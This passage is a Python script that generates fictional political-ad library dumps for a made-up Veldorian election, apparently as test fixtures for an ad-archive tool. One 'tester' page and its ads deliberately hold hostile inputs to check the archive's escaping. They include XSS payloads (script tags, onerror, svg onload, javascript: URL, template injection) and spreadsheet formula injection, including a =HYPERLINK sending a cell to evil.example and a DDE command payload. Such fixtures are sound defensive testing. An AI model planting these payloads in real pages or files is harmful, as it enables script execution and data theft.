"""Write the fictional sample dumps beside this file: the demo, and the data of the tests.

    python archive/samples/make.py            write them
    python archive/samples/make.py --check    say whether the files on disk are what this script makes

The Republic of Veldoria holds a general election on 14 June 2026. Its country, parties, payers, pages and ads exist
nowhere else. The formats are those of the platforms, to the byte, so they need real country codes (DE, GB, US, IN):
read them as "Veldorians there". Ids begin with 9999, tokens contain FAKE and addresses end in .example, so that
nothing here can be taken for a real page, ad or person.

First come the facts, platform by platform, then how each platform prints them. There is no clock and no chance in it.
"""

import argparse
import base64
import csv
import hashlib
import io
import json
import math
import sys
import zipfile
from collections import Counter
from collections.abc import Iterable, Mapping, Sequence
from pathlib import Path
from typing import Any, NamedTuple

from archive.samples.made import Made

HERE = Path(__file__).parent
CAPTURES = ("2026-05-03", "2026-05-24")
TOKEN = "EAAFAKETOKEN0SAMPLE0FAKETOKEN0SAMPLE0"  # noqa: S105 - a fake that importers must remove all the same
NO_DISCLAIMER = "These ads ran without a disclaimer"


class Zip(NamedTuple):
    """A zip file: the day its members carry, and their contents by name."""

    day: str
    members: dict[str, bytes]


Files = dict[str, bytes | Zip | Made]
Json = dict[str, Any]

# --------------------------------------------------------------------------------------------------------------------
# Meta: pages, the ads of the API, the rows of the report
# --------------------------------------------------------------------------------------------------------------------


class Page(NamedTuple):
    """A page on Meta: who runs the ads and who is said to pay ("" = ran without a disclaimer)."""

    id: str
    name: str
    payer: str


PAGES = {
    "civic": Page("999980000000001", "Civic Alliance Veldoria", "Civic Alliance Veldoria"),
    "harbour": Page("999980000000002", "Harbour & Hills Party", "Harbour & Hills Party, Federal Office"),
    "lantern": Page("999980000000003", "Lantern Movement", "Lantern Movement Campaign Fund"),
    "office": Page("999980000000004", "Federal Election Office of Veldoria", "Federal Election Office of Veldoria"),
    "rivers": Page("999980000000005", "Riverkeepers of the Älv", "Riverkeepers of the Älv, registered charity"),
    "neighbours": Page("999980000000006", "Nordmark Neighbours", "Nordmark Neighbours Association"),
    "lamppost": Page("999980000000007", "The Älvmünde Lamp-Post", ""),
    # The tester writes what an archive must survive. Its id is larger than 2^53: numbers lose its last digit.
    "tester": Page("999980000000000008", "Archive Test Page <b>hostile</b>", '=SUM(1,2) Testers\' "Circle", <i>'),
    "tenants": Page("999980000000009", "Südufer Tenants' Table", "Südufer Tenants' Table"),
}
# What the second capture says of the same pages.
RENAMED = {"lantern": "Lantern & Rivers Movement"}
PAYER_WITHDRAWN = {"neighbours"}

# Whom an ad reached: weight per age, and the share of women.
PEOPLE = {
    "everyone": ({"18-24": 8, "25-34": 18, "35-44": 20, "45-54": 20, "55-64": 18, "65+": 16}, 0.51),
    "young": ({"18-24": 64, "25-34": 36}, 0.55),
    "working": ({"25-34": 34, "35-44": 38, "45-54": 28}, 0.52),
    "parents": ({"25-34": 30, "35-44": 50, "45-54": 20}, 0.66),
    "older": ({"45-54": 14, "55-64": 38, "65+": 48}, 0.47),
}
NORTH, SOUTH, CAPITAL, UNKNOWN = "Nordmark", "Südufer", "Älvmünde, Capital District", "Unknown"
WHERE: dict[str, dict[str, float]] = {
    "country": {NORTH: 34, SOUTH: 27, CAPITAL: 38.4, UNKNOWN: 0.6},
    "north": {NORTH: 94, SOUTH: 2, CAPITAL: 4},
    "south": {NORTH: 3, SOUTH: 91, CAPITAL: 6},
    "capital": {CAPITAL: 1},
}


class MetaAd(NamedTuple):
    """An ad as the Ad Library API tells it; amounts are the API's own ranges, "1000000-" has no upper bound."""

    n: int
    page: str
    language: str
    started: str
    spend: str
    impressions: str
    audience: str
    people: str
    where: str
    bodies: tuple[str, ...]
    title: str = ""
    caption: str = ""
    description: str = ""
    stops: str = ""
    platforms: tuple[str, ...] = ("facebook", "instagram")


FLOOD_TEXT = "Three winters, three floods, and still no wall at Harbour Row. Ask everyone who rings your bell: when?"

META_ADS = (
    MetaAd(
        101, "civic", "en", "2026-04-02", "1000000-", "1000000-", "1000001-", "everyone", "country",
        ("On 14 June, Veldoria decides. We have costed every promise and put the sums online, line by line. "
         "Read them, argue with us, then vote.",),
        "Our programme, with the sums", "civicalliance.example", "142 pages, one table, no small print.",
    ),
    MetaAd(
        102, "civic", "de", "2026-04-11", "4000-4499", "300000-349999", "100001-500000", "parents", "north",
        ("Die Schule beginnt um acht, der Bus kommt um zwanzig nach. Das ist kein Naturgesetz. "
         "Ein Takt für ganz Nordmark, ab Herbst, wenn Sie uns am 14. Juni wählen.",),
        "Ein Takt für Nordmark", "civicalliance.example",
    ),
    MetaAd(
        103, "civic", "ur", "2026-04-18", "700-799", "60000-69999", "50001-100000", "everyone", "capital",
        ("یہ شہر آپ کا بھی ہے۔ آپ کی دکان، آپ کے بچے، آپ کا محلہ یہیں ہے۔ ۱۴ جون کو فیصلہ بھی آپ کا ہو: ووٹ دیجیے۔",),
        "۱۴ جون، آپ کا ووٹ", "civicalliance.example",
    ),
    MetaAd(
        104, "civic", "es", "2026-04-20", "900-999", "70000-79999", "100001-500000", "older", "capital",
        ("Mi abuela esperó once horas en urgencias. Once. Dos clínicas nuevas en la capital antes de 2028: "
         "eso proponemos, y esto es lo que cuesta.",),
        "Dos clínicas, con su presupuesto", "civicalliance.example", stops="2026-05-01",
    ),
    MetaAd(
        105, "civic", "hi", "2026-04-27", "200-299", "15000-19999", "10001-50000", "working", "south",
        ("गाँव से राजधानी तक एक टिकट, एक किराया। पढ़ाई और इलाज के लिए सफ़र महँगा नहीं होना चाहिए। 14 जून को वोट दें।",),
        "एक टिकट, पूरा देश", "civicalliance.example",
    ),
    MetaAd(
        201, "harbour", "de", "2026-04-06", "8000-8999", "500000-599999", "500001-1000000", "older", "south",
        ("Wer Milch für 38 Cent verkaufen muss, verkauft am Ende den Hof. Ein fairer Preis ist keine Subvention. "
         "Er ist Respekt.",),
        "Fairer Preis, faire Arbeit", "harbourandhills.example",
    ),
    MetaAd(
        202, "harbour", "en", "2026-04-14", "1500-1999", "100000-124999", "100001-500000", "everyone", "south",
        ("The ferry to Saint Ebba has been cancelled 61 times since January. We counted. "
         "We would rather count sailings.",),
        "61 cancelled ferries", "harbourandhills.example", "A timetable is a promise.",
    ),
    MetaAd(
        203, "harbour", "en", "2026-04-22", "600-699", "45000-49999", "50001-100000", "everyone", "capital",
        (FLOOD_TEXT,), "When?", "harbourandhills.example",
    ),
    MetaAd(
        204, "harbour", "de", "2026-03-25", "2000-2499", "175000-199999", "100001-500000", "older", "north",
        ("Die nächste Hausärztin ist vierzig Minuten entfernt. Im Winter siebzig. "
         "Wir holen die Praxis zurück ins Dorf.",),
        "Vierzig Minuten sind zu weit", "harbourandhills.example", stops="2026-04-25",
    ),
    MetaAd(
        301, "lantern", "en", "2026-04-09", "5000-5999", "450000-499999", "500001-1000000", "young", "capital",
        ("Rent should not eat half a nurse's wage. Cap it at a third. That is our whole leaflet. 🏮",),
        "A third, not a half", "lantern.example", "Sign, share, vote.",
    ),
    MetaAd(
        302, "lantern", "de", "2026-04-16", "1000-1499", "90000-99999", "100001-500000", "working", "country",
        ("Licht an im Parlament: jedes Treffen mit Lobbyisten ins Netz, noch am selben Tag. 🏮",),
        "Licht an!", "lantern.example",
    ),
    MetaAd(
        303, "lantern", "ar", "2026-04-24", "400-499", "35000-39999", "10001-50000", "everyone", "capital",
        ("لكل بيت نافذة، ولكل نافذة ضوء. في ١٤ يونيو أضئ نافذتك: شارك وصوّت. 🏮",),
        "أضئ نافذتك", "lantern.example",
    ),
    MetaAd(
        304, "lantern", "es", "2026-04-29", "0-99", "3000-3999", "10001-50000", "young", "capital",
        ("¿Primera vez que votas? Nadie nace sabiendo. Te lo explicamos en un minuto y sin jerga. 🏮",),
        platforms=("instagram",),
    ),
    MetaAd(
        401, "office", "en", "2026-04-15", "3500-3999", "250000-299999", "1000001-", "everyone", "country",
        ("Sunday 14 June, eight to eight. Bring your card or your passport. No card? Your polling station will find "
         "you in the register.",),
        "How to vote", "elections.veldoria.example", "Free, official, in five languages.", stops="2026-06-14",
    ),
    MetaAd(
        402, "office", "ar", "2026-04-15", "300-399", "25000-29999", "50001-100000", "everyone", "country",
        ("يوم الأحد ١٤ يونيو، من الثامنة صباحًا حتى الثامنة مساءً. أحضر بطاقة هويتك أو جواز سفرك. "
         "المعلومات مجانية وبلغتك.",),
        "كيف تصوّت", "elections.veldoria.example", stops="2026-06-14",
    ),
    MetaAd(
        403, "office", "ur", "2026-04-21", "100-199", "10000-14999", "10001-50000", "everyone", "country",
        ("ڈاک کے ذریعے ووٹ کی درخواست ۲۹ مئی تک دی جا سکتی ہے۔ فارم مفت ہے اور دو منٹ میں بھر جاتا ہے۔",),
        "ڈاک سے ووٹ", "elections.veldoria.example", stops="2026-05-29",
    ),
    MetaAd(
        501, "rivers", "en", "2026-03-30", "500-599", "50000-59999", "100001-500000", "older", "north",
        ("In 1962 the Älv carried nine hundred tonnes of salmon. Last year it carried nine. "
         "Ask your candidates about the weir at Ostrand.",),
        "From nine hundred to nine", "riverkeepers.example",
    ),
    MetaAd(
        502, "rivers", "de", "2026-04-03", "100-199", "8000-8999", "50001-100000", "parents", "capital",
        ("Schwimmen in der Älv? Seit 2019 verboten. Unterschreiben Sie für ein Klärwerk, das seinen Namen verdient.",),
        "Der Fluss gehört allen", "riverkeepers.example", stops="2026-04-28",
    ),
    MetaAd(
        601, "neighbours", "en", "2026-04-23", "0-99", "4000-4999", "5001-10000", "parents", "north",
        ("A bypass is planned straight through Birch Wood. Thursday, seven o'clock, the old fire station. "
         "Bring questions, coffee is on us.",),
        platforms=("facebook",),
    ),
    MetaAd(
        602, "neighbours", "de", "2026-04-26", "100-199", "9000-9999", "10001-50000", "parents", "north",
        ("Tempo 30 vor der Schule: Uns fehlen noch 212 Unterschriften. Eine davon könnte Ihre sein.",),
        "Noch 212", "nordmark-neighbours.example", platforms=("facebook",),
    ),
    MetaAd(
        701, "lamppost", "en", "2026-04-25", "300-399", "30000-34999", "50001-100000", "everyone", "capital",
        (FLOOD_TEXT,), "A question for Harbour Row", "lamppost.example",
    ),
    MetaAd(
        702, "lamppost", "en", "2026-04-30", "0-99", "2000-2999", "50001-100000", "working", "capital",
        ("Who really paid for the stadium roof? Part four of our series is free to read tonight.",),
        "The roof, part four", "lamppost.example",
    ),
    MetaAd(
        801, "tester", "en", "2026-04-28", "0-99", "0-999", "100-1000", "working", "capital",
        ("<script>alert(1)</script><img src=x onerror=alert(2)> If this line is not plain text, the page that shows "
         "it is broken.",),
        '"><svg onload=alert(3)>', "javascript:alert(4)", "{{constructor.constructor('alert(5)')()}}",
    ),
    MetaAd(
        802, "tester", "en", "2026-04-28", "0-99", "0-999", "100-1000", "working", "capital",
        ('=HYPERLINK("https://evil.example/?x="&A1,"Click me")\nVote on \u202enuj 41\u202c, not on 41 jun.\u200b',),
        "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3",
    ),
)  # fmt: skip

# Three weeks later: ranges have moved, ads have ended, two have left the library without a word, five are new.
META_LATER: dict[int, Json] = {
    102: {"spend": "7000-7999", "impressions": "500000-599999"},
    103: {"spend": "1000-1499", "impressions": "90000-99999"},
    105: {"spend": "600-699", "impressions": "50000-59999"},
    201: {"spend": "10000-14999", "impressions": "800000-899999", "stops": "2026-05-20"},
    202: {"spend": "3000-3499", "impressions": "200000-249999"},
    203: {"stops": "2026-05-08"},
    301: {"spend": "10000-14999", "impressions": "900000-999999"},
    303: {"spend": "900-999", "impressions": "80000-89999"},
    304: {"spend": "100-199", "impressions": "10000-14999"},
    401: {"spend": "8000-8999", "impressions": "600000-699999"},
    402: {"spend": "800-899", "impressions": "70000-79999"},
    501: {"spend": "600-699", "impressions": "60000-69999", "stops": "2026-05-15"},
    701: {"spend": "1000-1499", "impressions": "100000-124999"},
}
META_GONE = {302, 502}
META_NEW = (
    MetaAd(
        106, "civic", "en", "2026-05-12", "2500-2999", "200000-249999", "100001-500000", "working", "country",
        ("Forty questions, forty answers, no applause lines. Tuesday's debate, in full and with the corrections we owe "
         "you.",),
        "The debate, corrected", "civicalliance.example",
    ),
    MetaAd(
        205, "harbour", "de", "2026-05-18", "1000-1499", "90000-99999", "100001-500000", "older", "south",
        ("Ein Hafen ohne Fischer ist ein Parkplatz mit Aussicht. Am 14. Juni: Hafen und Hügel.",),
        "Kein Parkplatz mit Aussicht", "harbourandhills.example",
    ),
    MetaAd(
        305, "lantern", "hi", "2026-05-16", "100-199", "9000-9999", "10001-50000", "older", "capital",
        ("मतदान केंद्र तक पहुँचना कठिन है? हमें बताइए, हम गाड़ी भेजेंगे। सेवा निःशुल्क है और सबके लिए है। 🏮",),
        "हम साथ चलेंगे", "lantern.example",
    ),
    MetaAd(
        404, "office", "de", "2026-05-11", "1500-1999", "125000-149999", "1000001-", "everyone", "country",
        ("Briefwahl: Antrag bis 29. Mai, zwei Minuten, kein Porto.",
         "Postal vote: apply by 29 May, two minutes, no stamp."),
        "Briefwahl beantragen", "elections.veldoria.example", stops="2026-05-29",
    ),
    MetaAd(
        901, "tenants", "en", "2026-05-14", "0-99", "1000-1999", "5001-10000", "young", "south",
        ("Rent should not eat half a nurse's wage. Cap it at a third. That is our whole leaflet. 🏮",),
        platforms=("instagram",),
    ),
)  # fmt: skip


class ReportRow(NamedTuple):
    """A line of the Ad Library Report: euros spent and ads in the 30 days before each capture (None: no line)."""

    page_id: str
    page_name: str
    disclaimer: str
    where: str
    first: tuple[int, int] | None
    second: tuple[int, int] | None


Spent = tuple[int, int] | None


def _of(page: str, where: str, first: Spent, second: Spent, payer: str = "") -> ReportRow:
    """Give the report line of one of our pages, for its usual payer or the one named."""
    disclaimer = payer or PAGES[page].payer or NO_DISCLAIMER
    return ReportRow(PAGES[page].id, PAGES[page].name, disclaimer, where, first, second)


REPORT = (
    _of("civic", "country", (412873, 61), (538410, 74)),
    _of("civic", "north", (18240, 12), (21905, 13), "Civic Alliance Veldoria, Nordmark branch"),
    _of("harbour", "south", (64118, 33), (71442, 36)),
    # The same page and disclaimer once more: Meta keeps two disclaimers of equal text apart. Both count.
    _of("harbour", "north", (9377, 8), (8120, 6)),
    _of("lantern", "capital", (38904, 41), (52077, 55)),
    _of("office", "country", (22316, 9), (40958, 14)),
    _of("rivers", "north", (1466, 7), (1102, 4)),
    _of("neighbours", "north", (388, 5), (97, 3)),
    _of("neighbours", "north", None, (214, 2), NO_DISCLAIMER),
    _of("lamppost", "capital", (843, 4), (1290, 5)),
    _of("tenants", "south", None, (61, 1)),
    _of("tester", "capital", (12, 2), (12, 2)),
    ReportRow("999980000000011", 'Projekt "Dorfladen" Südufer', "Dorfladen, Südufer", "south", (517, 3), (402, 3)),
    ReportRow("999980000000012", "@saint.ebba.bakery", NO_DISCLAIMER, "south", (88, 1), (88, 1)),
    # Meta has replaced the emoji of this name by U+FFFD itself; the name of the next page is gone with the page.
    ReportRow("999980000000013", "\ufffdOne Harbour Choir\ufffd", "One Harbour Choir", "capital", (131, 2), (131, 2)),
    ReportRow("999980000000014", "", NO_DISCLAIMER, "north", (64, 1), None),
    # Page ID 0: Instagram accounts without a page, many of them, told apart by name alone.
    ReportRow("0", "Instagram User 99990000101", NO_DISCLAIMER, "capital", (142, 1), (142, 1)),
    ReportRow("0", "Instagram User 99990000102", NO_DISCLAIMER, "south", (33, 1), (75, 2)),
    ReportRow("0", "Instagram User 99990000103", "Saint Ebba Island Council", "south", None, (41, 1)),
)
REPORT_README = """\
Sample of a Meta Ad Library Report, written for adlib. Everything in it is fictional.

_advertisers.csv: one line for each page and disclaimer, with the amount spent in the window and the number of ads.
_locations.csv: the amount spent in each region. regions/: the advertisers again, one file for each region.
The currency is named in the header. An amount of 100 or less is printed as ≤100.
"""

# --------------------------------------------------------------------------------------------------------------------
# Google: advertisers, what they spent week by week, their creatives
# --------------------------------------------------------------------------------------------------------------------

# Google rounds every figure to a step of its currency, and prints a column for each of these.
STEP_2026 = {
    "USD": 100, "EUR": 50, "INR": 250, "BGN": 100, "CZK": 1500, "DKK": 500, "HUF": 20000, "PLN": 250, "RON": 250,
    "SEK": 1000, "GBP": 50, "NZD": 200, "ILS": 250, "AUD": 150, "TWD": 3000, "BRL": 500, "ARS": 15000, "ZAR": 15000,
    "CLP": 50000, "MXN": 1000,
}  # fmt: skip
CURRENCY_OF = {"US": "USD", "GB": "GBP", "IN": "INR"}


class GoogleAdvertiser(NamedTuple):
    """A verified advertiser: id, name, the public numbers it is registered under, where its ads ran."""

    id: str
    name: str
    public_ids: str
    regions: str


GOOGLE = {
    "civic": GoogleAdvertiser("AR99990000000000000001", "Civic Alliance Veldoria", "", "GB, US"),
    "harbour": GoogleAdvertiser("AR99990000000000000002", "Harbour & Hills Party", "", "GB"),
    "lantern": GoogleAdvertiser("AR99990000000000000003", "Lantern Movement Campaign Fund", "EIN ID 99-9900003", "US"),
    "office": GoogleAdvertiser("AR99990000000000000004", "Federal Election Office of Veldoria", "", "GB, IN, US"),
    "abroad": GoogleAdvertiser(
        "AR99990000000000000005", "VELDORIANS ABROAD NETWORK, INC.", "FEC ID C99990005, EIN ID 99-9900005", "US"
    ),
    "rivers": GoogleAdvertiser("AR99990000000000000006", "Riverkeepers of the Älv", "", "GB"),
    "manch": GoogleAdvertiser("AR99990000000000000007", "प्रवासी वेल्डोरिया मंच", "", "IN"),
    # Google leaves a blank where the registration number is missing.
    "heritage": GoogleAdvertiser("AR99990000000000000008", "Veldorian Heritage PAC", "Registered in US-TX ", "US"),
    "mill": GoogleAdvertiser("AR99990000000000000009", 'The "Old Mill" Committee, Inc.', "EIN ID 99-9900009", "US"),
    "export": GoogleAdvertiser("AR99990000000000000010", "Südufer Export Council", "", "GB"),
}

WEEKS = (
    "2026-03-01", "2026-03-08", "2026-03-15", "2026-03-22", "2026-03-29", "2026-04-05", "2026-04-12", "2026-04-19",
    "2026-04-26", "2026-05-03", "2026-05-10", "2026-05-17",
)  # fmt: skip
# Spend by week; "-" is a week without any activity (no row), 0 is activity below half a step.
# The first capture ends after nine weeks, the second after twelve.
WEEKLY = {
    ("civic", "GBP"): "   - - 650 900 1250 1400 1900 2100 2650   2900 3150 3400",
    ("civic", "USD"): "   - - - - 400 400 500 700 900   1100 1300 1500",
    ("harbour", "GBP"): " - - - 300 350 350 400 850 900   750 800 950",
    ("lantern", "USD"): " - 200 200 300 500 800 900 1200 1500   2000 2200 2600",
    ("office", "GBP"): "  0 150 150 200 200 250 300 300 350   500 650 900",
    ("office", "USD"): "  100 300 300 300 400 400 500 500 600   700 800 900",
    ("office", "INR"): "  0 500 500 750 750 1000 1000 1250 1500   1500 1750 2000",
    ("abroad", "USD"): "  1200 1400 1300 1500 1800 2000 2100 2500 3000   3300 3600 4100",
    ("rivers", "GBP"): "  0 0 50 0 0 50 0 - -   50 0 0",
    ("manch", "INR"): "   - - - 150000 225000 400000 650000 975000 1200000   1525000 1850000 2200000",
    ("heritage", "USD"): "- - - - - 300 700 900 1200   1300 1500 1600",
    ("mill", "USD"): "    2500 2100 1800 600 - - - - -   - - -",
    ("export", "GBP"): "  0 0 - 0 0 - - 0 0   0 0 0",
}
# One figure was higher when it was first published.
WEEKLY_FIRST = {("harbour", "GBP", "2026-04-19"): 900}
# Totals are rounded on their own, so they drift from the sum of the weeks.
TOTAL_DRIFT = {("lantern", "USD"): 100, ("abroad", "USD"): -100}

# country, subdivision, district, spend in the first and the second capture
GEO = (
    ("GB", "", "", 16150, 30200),
    ("IN", "IN-DL", "", 1300000, 3300000),
    ("IN", "IN-KA", "", 1900000, 4800000),
    ("IN", "IN-MH", "", 408000, 1089000),
    ("US", "US-AK", "AK-AT LARGE", 300, 500),
    ("US", "US-CA", "CA-22 (2022 redistricting)", 3100, 4900),
    ("US", "US-CA", "CA-22 (2026 redistricting)", 6200, 10800),
    ("US", "US-NC", "NC-10 (2026 redistricting)", 4100, 7400),
    ("US", "US-NY", "NY-12", 9400, 16900),
    ("US", "US-TX", "TX-16", 5300, 9100),
    ("US", "US-VA", "VA-7", 8200, 13800),
    ("US", "US-WA", "WA-9", 2500, 4300),
)
ADVERTISER_GEO = (
    ("abroad", "US-CA", 5100, 8300),
    ("abroad", "US-NY", 6900, 11200),
    ("abroad", "US-VA", 4800, 8200),
    ("civic", "US-NY", 2900, 6800),
    ("heritage", "US-TX", 3100, 7500),
    ("lantern", "US-CA", 3300, 7400),
    ("lantern", "US-WA", 2300, 5000),
    ("mill", "US-NC", 4100, 4100),
    ("mill", "US-VA", 2900, 2900),
    ("office", "US-AK", 200, 400),
    ("office", "US-TX", 3100, 5400),
)


class Creative(NamedTuple):
    """A Google ad: what kind, when it had impressions, and the bucket of its spend in the currency of its region."""

    n: int
    advertiser: str
    region: str
    kind: str
    start: str
    end: str
    days: int
    impressions: str
    spend: str
    ages: str = ""
    genders: str = ""
    where: str = ""
    not_where: str = ""
    grants: str = "No"


# Items are parted by ", " and hold commas themselves: this one is a market, a postal code and a state.
WASHINGTON = "Washington, DC (Hagerstown, MD),United States, 22201,Virginia,United States, Virginia,United States"
ADULT_AGES = "25-34, 35-44, 45-54, 55-64, ≥65, Unknown age"
CREATIVES = (
    Creative(
        1, "civic", "GB", "VIDEO", "2026-03-15", "2026-05-02", 48, "300000-350000", "6000-7000", ages=ADULT_AGES,
        where="England,United Kingdom, Wales,United Kingdom",
    ),
    Creative(2, "civic", "GB", "IMAGE", "2026-03-17", "2026-05-02", 45, "175000-200000", "3000-3500"),
    Creative(
        3, "civic", "GB", "TEXT", "2026-03-22", "2026-05-01", 39, "20000-25000", "1000-1500",
        where="London,England,United Kingdom",
    ),
    Creative(4, "civic", "US", "VIDEO", "2026-03-29", "2026-05-02", 34, "90000-100000", "2000-2500"),
    Creative(
        5, "civic", "US", "TEXT", "2026-04-01", "2026-05-02", 30, "8000-9000", "500-600", ages=ADULT_AGES,
        genders="Female, Unknown gender",
    ),
    Creative(6, "harbour", "GB", "IMAGE", "2026-03-22", "2026-05-02", 41, "125000-150000", "2000-2500"),
    Creative(
        7, "harbour", "GB", "TEXT", "2026-03-24", "2026-04-30", 35, "10000-15000", "900-950",
        where="SW1A,England,United Kingdom", not_where="Northern Ireland,United Kingdom",
    ),
    Creative(
        8, "lantern", "US", "VIDEO", "2026-03-08", "2026-05-02", 55, "250000-300000", "4000-4500",
        ages="18-24, 25-34",
    ),
    Creative(9, "lantern", "US", "TEXT", "2026-03-19", "2026-05-02", 40, "30000-35000", "1000-1500"),
    Creative(10, "lantern", "US", "IMAGE", "2026-03-08", "2026-03-21", 14, "7000-8000", "200-300"),
    Creative(11, "office", "GB", "TEXT", "2026-03-02", "2026-05-02", 61, "60000-70000", "1500-2000"),
    Creative(12, "office", "US", "TEXT", "2026-03-02", "2026-05-02", 62, "80000-90000", "3000-3500"),
    Creative(
        13, "office", "IN", "TEXT", "2026-03-05", "2026-05-02", 57, "100000-125000", "7000-7500",
        where="Chennai,Chennai,Tamil Nadu,India, Karnataka,India",
    ),
    Creative(
        14, "abroad", "US", "VIDEO", "2026-03-01", "2026-05-02", 63, "600000-700000", "10000-15000", ages=ADULT_AGES,
        where=WASHINGTON,
    ),
    Creative(15, "abroad", "US", "IMAGE", "2026-03-04", "2026-05-01", 57, "150000-175000", "3000-3500"),
    Creative(
        16, "abroad", "US", "VIDEO", "2026-03-29", "2026-05-02", 33, "70000-80000", "1500-2000",
        where="New York,United States", not_where="Buffalo, NY,United States",
    ),
    Creative(17, "abroad", "US", "TEXT", "2026-03-11", "2026-04-18", 37, "9000-10000", "500-600"),
    Creative(18, "rivers", "GB", "IMAGE", "2026-03-02", "2026-04-17", 22, "3000-4000", "50-100", grants="Yes"),
    Creative(
        19, "manch", "IN", "VIDEO", "2026-03-23", "2026-05-02", 41, "8000000-9000000", "2500000-3000000",
        where="Delhi,India, Maharashtra,India",
    ),
    Creative(20, "manch", "IN", "IMAGE", "2026-03-25", "2026-05-02", 38, "2000000-2500000", "750000-1000000"),
    Creative(
        21, "heritage", "US", "VIDEO", "2026-04-06", "2026-05-02", 26, "100000-125000", "2000-2500",
        ages="45-54, 55-64, ≥65", where="Texas,United States",
    ),
    Creative(
        22, "heritage", "US", "IMAGE", "2026-04-07", "2026-04-30", 22, "35000-40000", "800-900",
        where="TX-16,Texas,United States",
    ),
    # The same creative was also run by a second advertiser: Google's Ad_ID alone is no key.
    Creative(16, "heritage", "US", "VIDEO", "2026-04-20", "2026-04-24", 5, "1000-2000", "0-100"),
    Creative(23, "mill", "US", "VIDEO", "2026-03-01", "2026-03-27", 27, "300000-350000", "5000-6000"),
    Creative(24, "mill", "US", "TEXT", "2026-03-01", "2026-03-25", 25, "25000-30000", "1500-2000"),
    Creative(25, "export", "GB", "TEXT", "2026-03-02", "2026-05-02", 17, "0-1000", "0-50"),
)  # fmt: skip
CREATIVES_LATER: dict[int, Json] = {
    1: {"end": "2026-05-23", "days": 69, "impressions": "600000-700000", "spend": "12000-13000"},
    2: {"end": "2026-05-23", "days": 65, "impressions": "300000-350000", "spend": "5000-6000"},
    3: {"end": "2026-05-23", "days": 60, "impressions": "50000-60000", "spend": "2500-3000"},
    4: {"end": "2026-05-23", "days": 55, "impressions": "200000-250000", "spend": "4500-5000"},
    5: {"end": "2026-05-22", "days": 49, "impressions": "30000-35000", "spend": "2000-2500"},
    6: {"end": "2026-05-23", "days": 62, "impressions": "200000-250000", "spend": "3500-4000"},
    7: {"end": "2026-05-23", "days": 56, "impressions": "20000-25000", "spend": "1500-2000"},
    8: {"end": "2026-05-23", "days": 76, "impressions": "500000-600000", "spend": "9000-10000"},
    9: {"end": "2026-05-20", "days": 57, "impressions": "70000-80000", "spend": "2500-3000"},
    11: {"end": "2026-05-23", "days": 82, "impressions": "100000-125000", "spend": "3000-3500"},
    12: {"end": "2026-05-23", "days": 83, "impressions": "125000-150000", "spend": "5500-6000"},
    13: {"end": "2026-05-23", "days": 78, "impressions": "200000-250000", "spend": "12500-15000"},
    14: {"end": "2026-05-23", "days": 84, "impressions": "1000000-1500000", "spend": "15000-20000"},
    15: {"end": "2026-05-23", "days": 79, "impressions": "250000-300000", "spend": "5000-6000"},
    18: {"end": "2026-05-09", "days": 26, "impressions": "4000-5000", "spend": "100-150"},
    # The highest bucket of a currency has no upper end: Google leaves the cell empty.
    19: {"end": "2026-05-23", "days": 62, "impressions": "20000000-25000000", "spend": "5000000-"},
    20: {"end": "2026-05-23", "days": 59, "impressions": "5000000-6000000", "spend": "2000000-2500000"},
    21: {"end": "2026-05-23", "days": 47, "impressions": "250000-300000", "spend": "5000-6000"},
    22: {"end": "2026-05-23", "days": 45, "impressions": "90000-100000", "spend": "2000-2500"},
    25: {"end": "2026-05-22", "days": 25},
}
CREATIVES_GONE = {17}
CREATIVES_NEW = (
    Creative(26, "office", "GB", "VIDEO", "2026-05-11", "2026-05-23", 13, "45000-50000", "500-550"),
    Creative(27, "lantern", "US", "VIDEO", "2026-05-06", "2026-05-23", 18, "40000-45000", "500-600", ages="18-24"),
    Creative(28, "abroad", "US", "IMAGE", "2026-05-04", "2026-05-23", 20, "60000-70000", "800-900", genders="Male"),
)

DECLARED = (
    (
        "abroad",
        "US-CA",
        "Veldorians Abroad Network, California Committee",
        "9999001",
        "Measure VQ: Night Trains",
        "",
        "",
    ),
    ("abroad", "NZ", "", "", "", "Kea & Älv Friendship Society", "1 Example Quay, Wellington 6011"),
)
# Ids of old/google_2020 and what they became. One old id may stand for several new ones.
ADVERTISER_IDS = (
    ("AR999900000000000005", "abroad"),
    ("AR999900000000000008", "heritage"),
    ("AR999900000000000009", "mill"),
    ("AR999900000000000009", "heritage"),
)
CREATIVE_IDS = (
    ("CR999900000000000501", "CR99990000000000000014"),
    ("CR999900000000000501", "CR99990000000000000015"),
    ("CR999900000000000901", "CR99990000000000000023"),
)
KEYWORDS = (
    ("US-Federal-2018", "US", "US-Federal", "2019-12-02", "veldoria election", 4100, "postal vote abroad", 3900,
     "old mill", 2800, "night train", 1700, "älv river", 900, "rent cap", 600),
    ("US-Federal-2018", "US", "US-Federal", "2019-11-25", "veldoria election", 3900, "old mill", 2800,
     "postal vote abroad", 2700, "night train", 1700, "älv river", 900, "rent cap", 500),
)  # fmt: skip
GOOGLE_README = """\
Sample of a Google political ads transparency bundle, written for adlib. Everything in it is fictional.

Figures are rounded to a fixed step of their currency. In creative-stats, the currencies an ad was not sold in hold
their lowest bucket, and the highest bucket of a currency has no upper end.
"""

# --------------------------------------------------------------------------------------------------------------------
# Snap: one line per ad, by the column names of its files
# --------------------------------------------------------------------------------------------------------------------


def _snap(n: int, payer: str, money: str, impressions: int, dates: str, **more: str) -> Json:
    """Give one Snap ad by column name; `money` is "EUR 120", `dates` is "start" or "start / end" in UTC."""
    currency, spend = money.split()
    start, _, end = dates.partition(" / ")
    return {
        "ADID": hashlib.sha256(f"veldoria snap ad {n}".encode()).hexdigest(),
        "CreativeUrl": snap_asset(n, "mp4"),
        "Currency Code": currency,
        "Spend": spend,
        "Impressions": str(impressions),
        "StartDate": start.replace("-", "/") + "Z",
        "EndDate": end.replace("-", "/") + "Z" if end else "",
        "OrganizationName": payer,
        "PayingAdvertiserName": payer,
        "CountryCode": "germany",
    } | {SNAP_WORDS[word]: value for word, value in more.items()}


def snap_asset(n: int, media: str) -> str:
    """Give the address of a creative, as Snap writes it."""
    asset = hashlib.sha256(f"veldoria asset {n}".encode()).hexdigest()
    return f"https://www.snap.com/political-ads/asset/{asset}?mediaType={media}"


SNAP_WORDS = {
    "by": "OrganizationName",
    "country": "CountryCode",
    "address": "BillingAddress",
    "about": "CandidateBallotInformation",
    "committee": "CommitteeName",
    "committee_id": "CommitteeIdentificationNumber",
    "committee_says": "DisclosureNameOfCommittee",
    "jurisdiction": "AdvertisingJurisdiction",
    "creative": "CreativeUrl",
    "gender": "Gender",
    "age": "AgeBracket",
    "regions": "Regions (Included)",
    "not_regions": "Regions (Excluded)",
